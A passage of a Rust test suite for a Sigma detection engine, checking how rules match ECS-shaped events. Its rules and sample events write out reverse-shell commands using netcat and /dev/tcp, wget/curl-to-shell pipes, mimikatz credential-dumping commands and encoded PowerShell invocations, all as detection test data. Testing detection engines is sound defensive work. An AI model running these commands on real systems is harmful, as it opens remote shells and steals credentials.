//! Sigma semantics Vigie promises, end to end through the public API.
//!
//! Every test writes rule files into a temporary directory, loads them with [`RuleSet::load`]
//! and evaluates ECS-shaped JSON events. Each behaviour is asserted twice: an event that must
//! match, and a near miss that must not. The expected results follow the Sigma specification
//! (rules, modifiers appendix, filters and correlation specifications), not whatever the engine
//! underneath happens to do: a failure here is a divergence to decide on, not a test to relax.

use std::collections::{BTreeMap, BTreeSet};
use std::path::PathBuf;

use serde_json::{json, Value};
use tempfile::TempDir;
use vigie_detect::{Action, LoadOptions, LoadReport, RuleSet};

// ---------------------------------------------------------------------------------------------
// Helpers
// ---------------------------------------------------------------------------------------------

/// A loaded pack, with the directory its files live in.
struct Pack {
    dir: TempDir,
    set: RuleSet,
    report: LoadReport,
}

impl Pack {
    /// The path of a file of the pack.
    fn path(&self, name: &str) -> PathBuf {
        self.dir.path().join(name)
    }

    /// Ids of the rules matching `event`, sorted.
    fn hits(&self, event: Value) -> Vec<String> {
        let mut ids: Vec<String> = self
            .set
            .evaluate_value(&event)
            .iter()
            .map(|r| r.id.clone())
            .collect();
        ids.sort();
        ids
    }

    /// Whether any rule matches `event`.
    fn matches(&self, event: Value) -> bool {
        !self.hits(event).is_empty()
    }

    /// The rejection of the document with this id.
    fn rejection(&self, id: &str) -> &vigie_detect::Rejection {
        self.report
            .rejected
            .iter()
            .find(|r| r.id.as_deref() == Some(id))
            .unwrap_or_else(|| panic!("no rejection for {id}: {:#?}", self.report))
    }

    fn assert_clean(&self) {
        assert!(
            self.report.rejected.is_empty(),
            "unexpected rejections: {:#?}",
            self.report.rejected
        );
    }
}

/// Removes the indentation common to every non-blank line, and the first line break.
fn dedent(text: &str) -> String {
    let text = text.strip_prefix('\n').unwrap_or(text);
    let indent = text
        .lines()
        .filter(|l| !l.trim().is_empty())
        .map(|l| l.len() - l.trim_start().len())
        .min()
        .unwrap_or(0);
    text.lines()
        .map(|l| l.get(indent..).unwrap_or("").trim_end())
        .collect::<Vec<_>>()
        .join("\n")
        + "\n"
}

/// Writes `files` (name, YAML text, dedented) into a fresh directory and loads it.
fn load_files_with(files: &[(&str, &str)], opts: &LoadOptions) -> Pack {
    let dir = tempfile::tempdir().expect("temporary directory");
    for (name, text) in files {
        std::fs::write(dir.path().join(name), dedent(text)).expect("write rule file");
    }
    let (set, report) =
        RuleSet::load(&[dir.path().to_path_buf()], opts).expect("a readable pack loads");
    Pack { dir, set, report }
}

fn load_files(files: &[(&str, &str)]) -> Pack {
    load_files_with(files, &LoadOptions::default())
}

/// A rule document with id (and title) `id`, no logsource, and `detection` (dedented) as its
/// detection block.
fn rule_doc(id: &str, detection: &str) -> String {
    let body: String = dedent(detection)
        .lines()
        .map(|l| format!("  {l}\n"))
        .collect();
    format!("title: {id}\nid: {id}\ndetection:\n{body}")
}

/// Several rules in one multi-document file; every one must load.
fn rules(list: &[(&str, &str)]) -> Pack {
    let text = list
        .iter()
        .map(|(id, det)| rule_doc(id, det))
        .collect::<Vec<_>>()
        .join("---\n");
    let pack = load_files(&[("rules.yml", &text)]);
    pack.assert_clean();
    assert_eq!(pack.set.len(), list.len(), "{:#?}", pack.report);
    pack
}

/// One rule, id `r`; it must load.
fn rule(detection: &str) -> Pack {
    rules(&[("r", detection)])
}

// ---------------------------------------------------------------------------------------------
// Keywords
// ---------------------------------------------------------------------------------------------

#[test]
fn keyword_is_a_case_insensitive_substring_of_message() {
    let p = rule(
        "
        keywords:
          - 'sekurlsa::logonpasswords'
        condition: keywords
        ",
    );
    assert!(p.matches(json!({"message": "mimikatz # SEKURLSA::LogonPasswords full"})));
    assert!(!p.matches(json!({"message": "mimikatz # sekurlsa::pth"})));
}

#[test]
fn keyword_is_a_substring_of_event_original() {
    let p = rule(
        "
        keywords:
          - 'Accepted password for root'
        condition: keywords
        ",
    );
    let hit = json!({"event": {"original": "sshd[42]: accepted PASSWORD for root from 10.0.0.9"}});
    assert!(p.matches(hit));
    let miss = json!({"event": {"original": "sshd[42]: Failed password for root from 10.0.0.9"}});
    assert!(!p.matches(miss));
}

#[test]
fn keyword_in_another_field_does_not_match_when_the_event_has_a_message() {
    let p = rule(
        "
        keywords:
          - 'mimikatz'
        condition: keywords
        ",
    );
    assert!(p.matches(json!({"message": "started mimikatz.exe", "user": {"name": "bob"}})));
    assert!(!p.matches(json!({
        "message": "process started",
        "process": {"command_line": "C:\\tools\\mimikatz.exe"},
    })));
}

#[test]
fn keyword_searches_all_string_values_of_an_event_without_message_or_original() {
    let p = rule(
        "
        keywords:
          - 'mimikatz'
        condition: keywords
        ",
    );
    assert!(p.matches(json!({"process": {"command_line": "C:\\tools\\MimiKatz.exe"}})));
    assert!(!p.matches(json!({"process": {"command_line": "C:\\tools\\procdump.exe"}})));
}

#[test]
fn keyword_list_matches_any_of_its_values() {
    let p = rule(
        "
        keywords:
          - 'event::clear'
          - 'event::drop'
        condition: keywords
        ",
    );
    assert!(p.matches(json!({"message": "mimikatz # event::drop"})));
    assert!(p.matches(json!({"message": "mimikatz # event::clear"})));
    assert!(!p.matches(json!({"message": "mimikatz # event::list"})));
}

/// A keyword is a substring search, wildcards included: `*` does not anchor it to the whole
/// message.
#[test]
fn keyword_with_a_wildcard_is_still_a_substring() {
    let p = rule(
        "
        keywords:
          - 'dropper*.exe'
        condition: keywords
        ",
    );
    assert!(p.matches(json!({"message": "started C:\\temp\\DROPPER_v2.exe from outlook"})));
    assert!(!p.matches(json!({"message": "started C:\\temp\\dropper_v2.dll from outlook"})));
}

#[test]
fn keyword_all_requires_every_value() {
    let p = rule(
        "
        keywords:
          '|all':
            - 'OabVirtualDirectory'
            - ' -ExternalUrl '
        condition: keywords
        ",
    );
    assert!(p.matches(json!({
        "message": "Set-OabVirtualDirectory -Identity x -ExternalUrl 'http://evil'"
    })));
    assert!(!p.matches(json!({"message": "Set-OabVirtualDirectory -Identity x"})));
    assert!(!p.matches(json!({"message": "Set-Thing -ExternalUrl 'http://evil'"})));
}

/// Rules that can only match through wildcard keywords are evaluated only when a literal
/// part of a keyword is in the event (the keyword gate): the results must be those of a full
/// evaluation, whatever the case, the encoding or the rest of the condition.
#[test]
fn wildcard_keyword_rules_match_as_without_the_gate() {
    let p = rules(&[
        (
            "pipe",
            "
            keywords:
              - 'wget * - http* | sh'
              - 'curl *|*bash'
            filter:
              message|contains: 'apt-get'
            condition: keywords and not filter
            ",
        ),
        (
            "field",
            "
            sel:
              process.name: 'wget'
            condition: sel
            ",
        ),
    ]);
    assert_eq!(
        p.hits(json!({"message": "WGET -q - HTTP://198.51.100.7/x | SH"})),
        ["pipe"]
    );
    // Non-ASCII text around the keyword: folded before the search, as the engine does.
    assert_eq!(
        p.hits(json!({"message": "Ärger: CURL -s http://x/é.sh | BASH"})),
        ["pipe"]
    );
    // The literal parts are there but not in the keyword's order: no match.
    assert!(p
        .hits(json!({"message": "sh | wget x - http://y"}))
        .is_empty());
    // The filter still applies to a rule the gate lets through.
    assert!(p
        .hits(json!({"message": "apt-get: wget x - http://y | sh"}))
        .is_empty());
    // Without message or event.original, every string value is searched, numbers included.
    assert_eq!(
        p.hits(json!({"process": {"name": "wget", "command_line": "wget a - http://b | sh"}})),
        ["field", "pipe"]
    );
    assert_eq!(p.hits(json!({"process": {"name": "wget"}})), ["field"]);
}

/// Keyword selections combined by a selector, as SigmaHQ's "Privileged User Has Been
/// Created" writes them, are gated too and match as before.
#[test]
fn keyword_selections_under_a_selector_match_as_without_the_gate() {
    let p = rule(
        "
        selection_new_user:
          - 'new user'
        selection_uids_gids:
          - 'GID=0,'
          - 'UID=0,'
        condition: all of selection_*
        ",
    );
    let line = |uid: u32| {
        format!("useradd[1337]: new user: name=john, UID={uid}, GID=100, home=/home/john")
    };
    assert!(p.matches(json!({ "message": line(0) })));
    assert!(!p.matches(json!({ "message": line(1000) })));
    assert!(!p.matches(json!({"message": "usermod[1]: change user 'john' UID=0, GID=0,"})));
}

/// A gated rule keeps its logsource: an event tagged for another source never reaches it.
#[test]
fn wildcard_keyword_rules_keep_their_logsource() {
    let p = load_files(&[(
        "r.yml",
        "
        title: r
        id: r
        logsource: {product: linux, service: sshd}
        detection:
          keywords: ['Accepted * for root']
          condition: keywords
        ",
    )]);
    p.assert_clean();
    let line = "Accepted password for root from 10.0.0.9";
    let tagged = |service: &str| json!({"message": line, "vigie": {"logsource": {"product": "linux", "service": service}}});
    assert_eq!(p.hits(tagged("sshd")), ["r"]);
    assert!(p.hits(tagged("cron")).is_empty());
    assert_eq!(p.hits(json!({ "message": line })), ["r"]);
}

// ---------------------------------------------------------------------------------------------
// Values: null, arrays, numbers, case
// ---------------------------------------------------------------------------------------------

#[test]
fn null_matches_a_missing_or_null_field_only() {
    let p = rule(
        "
        sel:
          user.name: root
          process.parent.name: null
        condition: sel
        ",
    );
    assert!(p.matches(json!({"user": {"name": "root"}, "process": {"pid": 1}})));
    assert!(p.matches(json!({"user": {"name": "root"}})));
    assert!(p.matches(json!({"user": {"name": "root"}, "process": {"parent": {"name": null}}})));
    assert!(!p.matches(json!({"user": {"name": "root"}, "process": {"parent": {"name": "bash"}}})));
    assert!(!p.matches(json!({"user": {"name": "root"}, "process": {"parent": {"name": ""}}})));
}

#[test]
fn array_of_strings_matches_when_any_element_does() {
    let p = rule(
        "
        sel:
          tags: 'admin'
        condition: sel
        ",
    );
    assert!(p.matches(json!({"tags": ["user", "admin"]})));
    assert!(!p.matches(json!({"tags": ["user", "administrator"]})));
}

#[test]
fn array_of_objects_matches_through_a_dotted_path() {
    let p = rule(
        "
        sel:
          dns.answers.data: '10.66.6.6'
        condition: sel
        ",
    );
    let answers = |ips: &[&str]| {
        let list: Vec<Value> = ips
            .iter()
            .map(|ip| json!({"data": ip, "type": "A"}))
            .collect();
        json!({"dns": {"question": {"name": "x.example"}, "answers": list}})
    };
    assert!(p.matches(answers(&["1.1.1.1", "10.66.6.6"])));
    assert!(!p.matches(answers(&["1.1.1.1", "10.66.6.7"])));
}

#[test]
fn numeric_rule_value_matches_a_numeric_string() {
    let p = rule(
        "
        sel:
          EventID: 4624
        condition: sel
        ",
    );
    assert!(p.matches(json!({"EventID": "4624"})));
    assert!(p.matches(json!({"EventID": 4624})));
    assert!(!p.matches(json!({"EventID": "4625"})));
}

#[test]
fn string_rule_value_matches_a_number() {
    let p = rule(
        "
        sel:
          EventID: '4624'
        condition: sel
        ",
    );
    assert!(p.matches(json!({"EventID": 4624})));
    assert!(!p.matches(json!({"EventID": 4625})));
}

#[test]
fn matching_is_case_insensitive_by_default() {
    let p = rule(
        "
        sel:
          process.name: 'PowerShell.exe'
        condition: sel
        ",
    );
    assert!(p.matches(json!({"process": {"name": "powershell.EXE"}})));
    assert!(!p.matches(json!({"process": {"name": "powershell_ise.exe"}})));
}

#[test]
fn cased_is_case_sensitive() {
    let p = rules(&[
        (
            "exact",
            "
            sel:
              process.name|cased: 'PowerShell.exe'
            condition: sel
            ",
        ),
        (
            "contains",
            "
            sel:
              process.command_line|contains|cased: 'IEX'
            condition: sel
            ",
        ),
    ]);
    assert_eq!(
        p.hits(json!({"process": {"name": "PowerShell.exe"}})),
        ["exact"]
    );
    assert!(!p.matches(json!({"process": {"name": "powershell.exe"}})));
    assert_eq!(
        p.hits(json!({"process": {"command_line": "a; IEX (b)"}})),
        ["contains"]
    );
    assert!(!p.matches(json!({"process": {"command_line": "a; iex (b)"}})));
}

// ---------------------------------------------------------------------------------------------
// String modifiers
// ---------------------------------------------------------------------------------------------

#[test]
fn contains_matches_a_substring_case_insensitively() {
    let p = rule(
        "
        sel:
          process.command_line|contains: '/dev/tcp/'
        condition: sel
        ",
    );
    assert!(p.matches(json!({"process": {"command_line": "bash -i >& /DEV/TCP/10.0.0.1/4444"}})));
    assert!(!p.matches(json!({"process": {"command_line": "bash -i >& /dev/udp/10.0.0.1/53"}})));
}

#[test]
fn startswith_anchors_at_the_start() {
    let p = rule(
        "
        sel:
          process.executable|startswith: '/tmp/'
        condition: sel
        ",
    );
    assert!(p.matches(json!({"process": {"executable": "/tmp/.x/miner"}})));
    assert!(!p.matches(json!({"process": {"executable": "/var/tmp/miner"}})));
}

#[test]
fn endswith_anchors_at_the_end() {
    let p = rule(
        "
        sel:
          process.executable|endswith: '/nc'
        condition: sel
        ",
    );
    assert!(p.matches(json!({"process": {"executable": "/usr/bin/nc"}})));
    assert!(!p.matches(json!({"process": {"executable": "/usr/bin/ncat"}})));
}

#[test]
fn value_list_is_any_of_and_all_makes_it_all_of() {
    let p = rules(&[
        (
            "any",
            "
            sel:
              process.command_line|contains:
                - ' -e /bin/sh'
                - ' -e /bin/bash'
            condition: sel
            ",
        ),
        (
            "all",
            "
            sel:
              process.command_line|contains|all:
                - 'nc '
                - ' -e '
                - '/bin/sh'
            condition: sel
            ",
        ),
    ]);
    let cmd = |c: &str| json!({"process": {"command_line": c}});
    assert_eq!(p.hits(cmd("nc 10.0.0.1 4444 -e /bin/sh")), ["all", "any"]);
    assert_eq!(p.hits(cmd("ncat 10.0.0.1 -e /bin/bash")), ["any"]);
    assert!(p.hits(cmd("nc 10.0.0.1 4444 -e /bin/zsh")).is_empty());
}

#[test]
fn re_is_a_case_sensitive_unanchored_regex() {
    let p = rule(
        r"
        sel:
          process.command_line|re: 'nc\s+-e\s+/bin/(ba)?sh'
        condition: sel
        ",
    );
    let cmd = |c: &str| json!({"process": {"command_line": c}});
    assert!(p.matches(cmd("/usr/bin/nc  -e /bin/bash 10.0.0.1 4444")));
    assert!(!p.matches(cmd("/usr/bin/nc -x /bin/bash 10.0.0.1 4444")));
    // The specification: "Regex is matched case-sensitive by default."
    assert!(!p.matches(cmd("/usr/bin/NC -E /BIN/BASH 10.0.0.1 4444")));
}

#[test]
fn re_i_flag_ignores_case() {
    let p = rule(
        r"
        sel:
          process.command_line|re|i: 'nc\s+-e\s+/bin/(ba)?sh'
        condition: sel
        ",
    );
    let cmd = |c: &str| json!({"process": {"command_line": c}});
    assert!(p.matches(cmd("/usr/bin/NC -E /BIN/BASH")));
    assert!(!p.matches(cmd("/usr/bin/NC -X /BIN/BASH")));
}

#[test]
fn re_m_flag_anchors_at_line_boundaries() {
    let p = rules(&[
        (
            "plain",
            "
            sel:
              message|re: '^whoami$'
            condition: sel
            ",
        ),
        (
            "multiline",
            "
            sel:
              message|re|m: '^whoami$'
            condition: sel
            ",
        ),
    ]);
    assert_eq!(
        p.hits(json!({"message": "id\nwhoami\nuname -a"})),
        ["multiline"]
    );
    assert_eq!(p.hits(json!({"message": "whoami"})), ["multiline", "plain"]);
    assert!(p
        .hits(json!({"message": "id\nwhoami -a\nuname"}))
        .is_empty());
}

#[test]
fn re_s_flag_lets_dot_match_newlines() {
    let p = rules(&[
        (
            "plain",
            "
            sel:
              message|re: 'BEGIN.*END'
            condition: sel
            ",
        ),
        (
            "dotall",
            "
            sel:
              message|re|s: 'BEGIN.*END'
            condition: sel
            ",
        ),
    ]);
    assert_eq!(
        p.hits(json!({"message": "BEGIN key\nmaterial END"})),
        ["dotall"]
    );
    assert_eq!(
        p.hits(json!({"message": "BEGIN key material END"})),
        ["dotall", "plain"]
    );
    assert!(p.hits(json!({"message": "BEGIN key\nmaterial"})).is_empty());
}

#[test]
fn cidr_matches_ipv4_networks() {
    let p = rule(
        "
        sel:
          source.ip|cidr:
            - '10.0.0.0/8'
            - '192.168.1.0/24'
        condition: sel
        ",
    );
    let ip = |a: &str| json!({"source": {"ip": a}});
    assert!(p.matches(ip("10.200.3.4")));
    assert!(p.matches(ip("192.168.1.254")));
    assert!(!p.matches(ip("11.0.0.1")));
    assert!(!p.matches(ip("192.168.2.1")));
}

#[test]
fn cidr_matches_ipv6_networks() {
    let p = rule(
        "
        sel:
          source.ip|cidr: 'fd00::/8'
        condition: sel
        ",
    );
    assert!(p.matches(json!({"source": {"ip": "fd12:3456:789a::1"}})));
    assert!(!p.matches(json!({"source": {"ip": "fe80::1"}})));
}

#[test]
fn base64_matches_the_encoded_value() {
    let p = rule(
        "
        sel:
          http.request.body.content|base64: 'secret'
        condition: sel
        ",
    );
    // base64('secret') = c2VjcmV0; base64('secret\n') = c2VjcmV0Cg==
    assert!(p.matches(json!({"http": {"request": {"body": {"content": "c2VjcmV0"}}}})));
    assert!(!p.matches(json!({"http": {"request": {"body": {"content": "c2VjcmV0Cg=="}}}})));
}

/// Base64 of `http://evil.example/x` preceded by 0, 1 and 2 bytes: the value sits at each of
/// the three offsets of a base64 group, followed by more data, as in a real payload.
#[test]
fn base64offset_contains_finds_the_value_at_every_offset() {
    let p = rule(
        "
        sel:
          process.command_line|base64offset|contains: 'http://'
        condition: sel
        ",
    );
    let cmd = |b64: &str| json!({"process": {"command_line": format!("powershell -e {b64}")}});
    assert!(p.matches(cmd("aHR0cDovL2V2aWwuZXhhbXBsZS94")), "offset 0");
    assert!(
        p.matches(cmd("QWh0dHA6Ly9ldmlsLmV4YW1wbGUveA==")),
        "offset 1"
    );
    assert!(
        p.matches(cmd("QUJodHRwOi8vZXZpbC5leGFtcGxlL3g=")),
        "offset 2"
    );
    // ftp://evil.example/x
    assert!(!p.matches(cmd("ZnRwOi8vZXZpbC5leGFtcGxlL3g=")));
}

/// `utf16le('cmd')` base64-encoded at each offset (the encodings of `cmd /c whoami`,
/// `Acmd /c whoami`, `ABcmd /c whoami` in UTF-16LE).
#[test]
fn utf16le_base64offset_finds_the_wide_value_at_every_offset() {
    let p = rule(
        "
        sel:
          process.command_line|utf16le|base64offset|contains: 'cmd'
        condition: sel
        ",
    );
    let cmd = |b64: &str| json!({"process": {"command_line": format!("powershell -e {b64}")}});
    assert!(
        p.matches(cmd("YwBtAGQAIAAvAGMAIAB3AGgAbwBhAG0AaQA=")),
        "offset 0"
    );
    assert!(
        p.matches(cmd("QQBjAG0AZAAgAC8AYwAgAHcAaABvAGEAbQBpAA==")),
        "offset 1"
    );
    assert!(
        p.matches(cmd("QQBCAGMAbQBkACAALwBjACAAdwBoAG8AYQBtAGkA")),
        "offset 2"
    );
    // utf16le('powershell /c whoami'), and the ASCII 'cmd /c whoami'
    let near = "cABvAHcAZQByAHMAaABlAGwAbAAgAC8AYwAgAHcAaABvAGEAbQBpAA==";
    assert!(!p.matches(cmd(near)));
    assert!(!p.matches(cmd("Y21kIC9jIHdob2FtaQ==")));
}

/// `utf16be('cmd')` base64-encoded at each offset.
#[test]
fn utf16be_base64offset_finds_the_big_endian_value_at_every_offset() {
    let p = rule(
        "
        sel:
          process.command_line|utf16be|base64offset|contains: 'cmd'
        condition: sel
        ",
    );
    let cmd = |b64: &str| json!({"process": {"command_line": format!("x -e {b64}")}});
    assert!(
        p.matches(cmd("AGMAbQBkACAALwBjACAAdwBoAG8AYQBtAGk=")),
        "offset 0"
    );
    assert!(
        p.matches(cmd("AEEAYwBtAGQAIAAvAGMAIAB3AGgAbwBhAG0AaQ==")),
        "offset 1"
    );
    assert!(
        p.matches(cmd("AEEAQgBjAG0AZAAgAC8AYwAgAHcAaABvAGEAbQBp")),
        "offset 2"
    );
    // utf16be('powershell /c whoami'), and utf16le('cmd /c whoami')
    let near = "AHAAbwB3AGUAcgBzAGgAZQBsAGwAIAAvAGMAIAB3AGgAbwBhAG0AaQ==";
    assert!(!p.matches(cmd(near)));
    assert!(!p.matches(cmd("YwBtAGQAIAAvAGMAIAB3AGgAbwBhAG0AaQA=")));
}

/// `utf16` is a byte-order mark then UTF-16: base64 of `FF FE` + utf16le('cmd /c whoami').
#[test]
fn utf16_base64offset_includes_the_byte_order_mark() {
    let p = rule(
        "
        sel:
          process.command_line|utf16|base64offset|contains: 'cmd'
        condition: sel
        ",
    );
    let cmd = |b64: &str| json!({"process": {"command_line": format!("x -e {b64}")}});
    assert!(p.matches(cmd("//5jAG0AZAAgAC8AYwAgAHcAaABvAGEAbQBpAA==")));
    // Without the mark; and with the mark before 'pwsh /c whoami'.
    assert!(!p.matches(cmd("YwBtAGQAIAAvAGMAIAB3AGgAbwBhAG0AaQA=")));
    assert!(!p.matches(cmd("//5wAHcAcwBoACAALwBjACAAdwBoAG8AYQBtAGkA")));
}

/// `wide` is `utf16le`: the PowerShell `-EncodedCommand` case, `whoami` at each offset.
#[test]
fn wide_base64offset_finds_an_encoded_powershell_command() {
    let p = rule(
        "
        sel:
          process.command_line|wide|base64offset|contains: 'whoami'
        condition: sel
        ",
    );
    let cmd = |b64: &str| json!({"process": {"command_line": format!("powershell -enc {b64}")}});
    assert!(
        p.matches(cmd("dwBoAG8AYQBtAGkAIAAvAGEAbABsAA==")),
        "offset 0"
    );
    assert!(
        p.matches(cmd("eAB3AGgAbwBhAG0AaQAgAC8AYQBsAGwA")),
        "offset 1"
    );
    assert!(
        p.matches(cmd("eAB5AHcAaABvAGEAbQBpACAALwBhAGwAbAA=")),
        "offset 2"
    );
    // ASCII base64 of 'whoami /all' is not wide.
    assert!(!p.matches(cmd("d2hvYW1pIC9hbGw=")));
}

#[test]
fn windash_accepts_every_dash_and_the_slash() {
    let p = rule(
        "
        sel:
          process.command_line|windash|contains: ' -enc '
        condition: sel
        ",
    );
    let cmd = |c: &str| json!({"process": {"command_line": c}});
    for dash in ["-", "/", "\u{2013}", "\u{2014}", "\u{2015}"] {
        assert!(
            p.matches(cmd(&format!("powershell {dash}enc ZQBjAGgAbwA="))),
            "dash {dash:?}"
        );
    }
    assert!(!p.matches(cmd("powershell +enc ZQBjAGgAbwA=")));
    assert!(!p.matches(cmd("powershell enc ZQBjAGgAbwA=")));
}

#[test]
fn fieldref_compares_two_fields_of_the_event() {
    let p = rule(
        "
        sel:
          user.target.name|fieldref: user.name
        condition: sel
        ",
    );
    assert!(p.matches(json!({"user": {"name": "alice", "target": {"name": "alice"}}})));
    assert!(!p.matches(json!({"user": {"name": "alice", "target": {"name": "root"}}})));
    assert!(!p.matches(json!({"user": {"target": {"name": "root"}}})));
}

#[test]
fn fieldref_with_startswith_and_endswith() {
    let p = rules(&[
        (
            "starts",
            "
            sel:
              file.path|fieldref|startswith: user.home
            condition: sel
            ",
        ),
        (
            "ends",
            "
            sel:
              process.executable|fieldref|endswith: process.name
            condition: sel
            ",
        ),
    ]);
    assert_eq!(
        p.hits(json!({"file": {"path": "/home/alice/.ssh/id_ed25519"}, "user": {"home": "/home/alice"}})),
        ["starts"]
    );
    assert!(p
        .hits(json!({"file": {"path": "/root/.ssh/id_ed25519"}, "user": {"home": "/home/alice"}}))
        .is_empty());
    assert_eq!(
        p.hits(json!({"process": {"executable": "/usr/bin/sshd", "name": "sshd"}})),
        ["ends"]
    );
    assert!(p
        .hits(json!({"process": {"executable": "/tmp/sshd-x", "name": "sshd"}}))
        .is_empty());
}

#[test]
fn exists_true_and_false() {
    let p = rules(&[
        (
            "present",
            "
            sel:
              process.parent.name|exists: true
            condition: sel
            ",
        ),
        (
            "absent",
            "
            sel:
              process.parent.name|exists: false
            condition: sel
            ",
        ),
    ]);
    assert_eq!(
        p.hits(json!({"process": {"parent": {"name": "bash"}}})),
        ["present"]
    );
    assert_eq!(p.hits(json!({"process": {"pid": 7}})), ["absent"]);
}

/// The specification: "this check only verifies the presence of a field, not its value, be it
/// empty or null". Vigie follows it for empty values. For an explicit JSON `null` it does not:
/// rsigma 0.23 (`compiler/mod.rs`, `get_field(..).is_some_and(|v| !v.is_null())`) counts a null
/// field as absent, the same reading as `field: null` matching a missing field. The Sigma AST
/// cannot express "present and null" without it, so this is a documented deviation (README,
/// "Sigma semantics"), pinned here so that a change of engine behaviour is noticed.
#[test]
fn exists_checks_presence_of_empty_values_and_counts_null_as_absent() {
    let p = rules(&[
        (
            "present",
            "
            sel:
              process.parent.name|exists: true
            condition: sel
            ",
        ),
        (
            "absent",
            "
            sel:
              process.parent.name|exists: false
            condition: sel
            ",
        ),
    ]);
    assert_eq!(
        p.hits(json!({"process": {"parent": {"name": ""}}})),
        ["present"]
    );
    assert_eq!(
        p.hits(json!({"process": {"parent": {"name": null}}})),
        ["absent"]
    );
}

#[test]
fn expand_uses_the_configured_placeholder_values() {
    let opts = LoadOptions {
        placeholders: BTreeMap::from([(
            "admins".to_owned(),
            vec!["root".to_owned(), "toor".to_owned()],
        )]),
        ..LoadOptions::default()
    };
    let text = rule_doc(
        "admin-login",
        "
        sel:
          user.name|expand: '%admins%'
        condition: sel
        ",
    );
    let p = load_files_with(&[("r.yml", &text)], &opts);
    p.assert_clean();
    assert!(p.matches(json!({"user": {"name": "toor"}})));
    assert!(p.matches(json!({"user": {"name": "root"}})));
    assert!(!p.matches(json!({"user": {"name": "alice"}})));
    assert!(!p.matches(json!({"user": {"name": "%admins%"}})));
}

#[test]
fn expand_without_the_placeholder_is_rejected_naming_it() {
    let text = rule_doc(
        "admin-login",
        "
        sel:
          user.name|expand: '%admins%'
        condition: sel
        ",
    );
    let other = rule_doc(
        "other",
        "
        sel:
          user.name: bob
        condition: sel
        ",
    );
    let p = load_files(&[("r.yml", &format!("{text}---\n{other}"))]);
    let rejected = p.rejection("admin-login");
    assert!(rejected.reason.contains("%admins%"), "{rejected:?}");
    assert_eq!(rejected.file, p.path("r.yml"));
    assert!(p.set.rule("admin-login").is_none());
    assert!(p.set.rule("other").is_some());
    assert!(!p.matches(json!({"user": {"name": "%admins%"}})));
}

#[test]
fn numeric_comparisons_have_exact_edges() {
    let p = rules(&[
        ("gt", "sel: {bytes|gt: 100}\ncondition: sel"),
        ("gte", "sel: {bytes|gte: 100}\ncondition: sel"),
        ("lt", "sel: {bytes|lt: 100}\ncondition: sel"),
        ("lte", "sel: {bytes|lte: 100}\ncondition: sel"),
    ]);
    assert_eq!(p.hits(json!({"bytes": 99})), ["lt", "lte"]);
    assert_eq!(p.hits(json!({"bytes": 100})), ["gte", "lte"]);
    assert_eq!(p.hits(json!({"bytes": 101})), ["gt", "gte"]);
    assert_eq!(p.hits(json!({"bytes": 100.5})), ["gt", "gte"]);
    assert_eq!(p.hits(json!({"bytes": "101"})), ["gt", "gte"]);
    assert!(p.hits(json!({"bytes": "many"})).is_empty());
    assert!(p.hits(json!({"other": 1})).is_empty());
}

#[test]
fn wildcard_star_matches_any_run_of_characters() {
    let p = rule(
        "
        sel:
          process.executable: '/usr/bin/py*3'
        condition: sel
        ",
    );
    let exe = |e: &str| json!({"process": {"executable": e}});
    assert!(p.matches(exe("/usr/bin/python3")));
    assert!(p.matches(exe("/usr/bin/py3")));
    assert!(!p.matches(exe("/usr/local/bin/python3")));
    assert!(!p.matches(exe("/usr/bin/python3.11")));
}

#[test]
fn wildcard_question_mark_matches_exactly_one_character() {
    let p = rule(
        "
        sel:
          host.name: 'web?1'
        condition: sel
        ",
    );
    let host = |h: &str| json!({"host": {"name": h}});
    assert!(p.matches(host("web-1")));
    assert!(!p.matches(host("web1")));
    assert!(!p.matches(host("web--1")));
}

#[test]
fn escaped_star_is_a_literal_star() {
    let p = rule(
        r"
        sel:
          file.name: 'report\*.txt'
        condition: sel
        ",
    );
    let file = |n: &str| json!({"file": {"name": n}});
    assert!(p.matches(file("report*.txt")));
    assert!(!p.matches(file("report2024.txt")));
}

// ---------------------------------------------------------------------------------------------
// Conditions
// ---------------------------------------------------------------------------------------------

#[test]
fn one_of_a_selection_pattern() {
    let p = rule(
        "
        selection_curl:
          process.name: curl
        selection_wget:
          process.name: wget
        filter:
          process.name: nc
        condition: 1 of selection_*
        ",
    );
    assert!(p.matches(json!({"process": {"name": "wget"}})));
    assert!(p.matches(json!({"process": {"name": "curl"}})));
    assert!(!p.matches(json!({"process": {"name": "nc"}})));
}

#[test]
fn all_of_them() {
    let p = rule(
        "
        sel_name:
          process.name: nc
        sel_args:
          process.args: '-e'
        condition: all of them
        ",
    );
    assert!(p.matches(json!({"process": {"name": "nc", "args": ["nc", "-e", "/bin/sh"]}})));
    assert!(!p.matches(json!({"process": {"name": "nc", "args": ["nc", "-l"]}})));
}

#[test]
fn not_excludes_the_filter() {
    let p = rule(
        "
        sel:
          process.name: sudo
        filter:
          user.name: admin
        condition: sel and not filter
        ",
    );
    assert!(p.matches(json!({"process": {"name": "sudo"}, "user": {"name": "bob"}})));
    assert!(!p.matches(json!({"process": {"name": "sudo"}, "user": {"name": "admin"}})));
}

#[test]
fn parentheses_override_and_before_or() {
    let p = rules(&[
        (
            "grouped",
            "
            a: {x: 1}
            b: {y: 1}
            c: {z: 1}
            condition: a and (b or c)
            ",
        ),
        (
            "plain",
            "
            a: {x: 1}
            b: {y: 1}
            c: {z: 1}
            condition: a and b or c
            ",
        ),
    ]);
    assert_eq!(p.hits(json!({"z": 1})), ["plain"]);
    assert_eq!(p.hits(json!({"x": 1, "z": 1})), ["grouped", "plain"]);
    assert_eq!(p.hits(json!({"x": 1, "y": 1})), ["grouped", "plain"]);
    assert!(p.hits(json!({"x": 1})).is_empty());
}

// ---------------------------------------------------------------------------------------------
// Logsource routing
// ---------------------------------------------------------------------------------------------

#[test]
fn events_are_routed_by_their_logsource_tags() {
    let doc = |id: &str, logsource: &str| {
        format!(
            "title: {id}\nid: {id}\n{logsource}detection:\n  sel: {{marker: x}}\n  condition: sel\n"
        )
    };
    let text = [
        doc("windows", "logsource: {product: windows}\n"),
        doc(
            "linux-file",
            "logsource: {product: linux, category: file_event}\n",
        ),
        doc(
            "linux-auditd",
            "logsource: {product: linux, service: auditd}\n",
        ),
        doc(
            "linux-proc",
            "logsource: {product: linux, category: process_creation}\n",
        ),
        doc("linux", "logsource: {product: linux}\n"),
        doc("proc", "logsource: {category: process_creation}\n"),
        doc("anywhere", ""),
    ]
    .join("---\n");
    let p = load_files(&[("routing.yml", &text)]);
    p.assert_clean();
    assert_eq!(p.set.len(), 7);

    let tagged = json!({
        "marker": "x",
        "vigie": {"logsource": {"product": "linux", "category": "process_creation"}},
    });
    assert_eq!(p.hits(tagged), ["anywhere", "linux", "linux-proc", "proc"]);
